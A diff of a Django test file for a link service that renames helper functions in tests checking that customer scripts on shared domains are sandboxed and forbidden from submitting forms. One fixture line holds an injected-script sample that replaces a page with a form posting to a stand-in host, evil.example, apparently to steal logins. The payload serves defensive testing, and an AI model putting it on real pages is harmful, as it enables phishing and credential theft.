@@ -13,8 +13,8 @@ from accounts.services import account_brand_set
 from links.public_urls import system_domain, update_system_domain
 from links.services.account_settings import script_write
 from links.services.domains import domain_create
-from tests.support import prove_host
-from tests.support.links import HOST, NOON, Answer, Browser, counts, learn, make
+from tests.support import verify_host
+from tests.support.links import HOST, NOON, Answer, Browser, count_metrics, create_link, refresh_caches
 
 pytestmark = pytest.mark.django_db
 BASE, SHARED, OWN = "stats.saas.test", "go.saas.test", "go.shop.test"
@@ -26,14 +26,14 @@ SCRIPT = "<script>document.body.innerHTML='<form action=https://evil.example/ste
 def hosts(account: Account, settings: Any, fresh_links: None) -> None:
     settings.BASE_URL, settings.LINK_DOMAIN, settings.CLICKMETER_HOSTS = f"https://{BASE}", SHARED, (API,)
     account_brand_set(account=account, host=BRAND, name="Agency")
-    prove_host(account, BRAND, Purpose.BRAND)
+    verify_host(account, BRAND, Purpose.BRAND)
     domain = domain_create(account=account, name=OWN)
-    prove_host(account, OWN, Purpose.LINKS)
+    verify_host(account, OWN, Purpose.LINKS)
     script = script_write(account=account, name="pixel", text=SCRIPT)
     for place, prefix in ((domain, "own"), (system_domain(), "shared")):
-        make(account, f"{prefix}-script", domain=place, scripts=[script])
+        create_link(account, f"{prefix}-script", domain=place, scripts=[script])
         framed: dict[str, Any] = {"hide_url": True, "hide_url_title": "<b>Log in</b>", "url": "https://x.test/?q=%22"}
-        make(account, f"{prefix}-frame", domain=place, **framed)
+        create_link(account, f"{prefix}-frame", domain=place, **framed)
 
 
 def policy(answer: Answer) -> str:
@@ -57,7 +57,7 @@ def test_on_the_shared_domain_they_run_in_a_sandbox_without_forms(account: Accou
     assert "form-action 'none'" in policy(answer)
     framed = Browser().open("/shared-frame", host=SHARED)
     assert b'sandbox="allow-scripts allow-same-origin"' in framed.body and "form-action 'none'" in policy(framed)
-    assert counts(account, "clicks") == 1
+    assert count_metrics(account, "clicks") == 1
 
 
 @pytest.mark.parametrize("host", [BASE, BRAND, API, HOST, "unknown.test", f"apiv2.{BASE}"])
@@ -76,13 +76,13 @@ def test_a_link_of_a_verified_domain_does_not_exist_on_other_hosts(host: str, al
 def test_without_a_shared_link_domain_no_content_of_accounts_is_shown(settings: Any) -> None:
     settings.LINK_DOMAIN = ""
     system_domain()
-    learn()
+    refresh_caches()
     assert Browser().open("/l/shared-script", host=BASE).status == 301
     assert Browser().open("/l/shared-frame", host=BASE).status == 301
 
 
 def test_a_hidden_destination_can_be_obfuscated(account: Account) -> None:
-    make(account, "coded", hide_url=True, encode_url=True)
+    create_link(account, "coded", hide_url=True, encode_url=True)
     assert b"shop.test" not in Browser().open("/coded", host=SHARED).body
 
 
